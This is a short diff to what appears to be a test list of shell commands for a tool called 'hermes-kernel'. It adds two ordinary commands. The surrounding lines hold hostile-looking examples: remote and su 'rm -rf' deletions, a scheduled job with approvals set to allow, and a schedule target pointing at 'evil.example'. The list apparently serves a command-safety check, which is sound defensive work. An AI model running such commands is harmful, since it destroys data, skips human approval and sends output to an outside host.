@@ -119,6 +119,8 @@ ssh -p 22 -i key me@host rm -rf x
 su - me -c "rm -rf x"
 hermes-kernel schedule add "in 1h" "Clean up." --approvals allow
 python3 -m hermes_kernel schedule --json change sales --jobs
+hermes-kernel ask "What is new?"
+cat prompts.csv | python -m hermes_kernel map - out.csv
 /opt/v/bin/hermes-kernel schedule target add team json://evil.example
 """.strip().split("\n")
 
